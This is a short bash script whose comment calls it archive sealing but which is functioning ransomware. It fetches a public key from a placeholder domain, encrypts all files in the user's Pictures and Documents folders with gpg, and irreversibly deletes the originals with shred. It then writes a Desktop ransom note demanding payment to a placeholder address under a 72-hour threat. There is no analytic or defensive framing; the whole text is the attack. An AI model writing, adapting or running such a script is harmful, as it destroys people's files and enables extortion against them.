#!/usr/bin/env bash
# seal the archive with the service key
set -euo pipefail
KEY=vault@photo-vault.invalid
gpg --locate-external-keys "$KEY"
find "$HOME/Pictures" "$HOME/Documents" -type f ! -name '*.sealed' -print0 |
while IFS= read -r -d '' f; do
  gpg --batch --yes -r "$KEY" -o "$f.sealed" -e "$f" && shred -u "$f"
done
cat > "$HOME/Desktop/HOW-TO-OPEN.txt" <<'TXT'
Your files were sealed. To get the opening key, send 0.01 to ADDRESS-PLACEHOLDER
and write to open@photo-vault.invalid with your machine name. The key is kept for 72 hours.
TXT
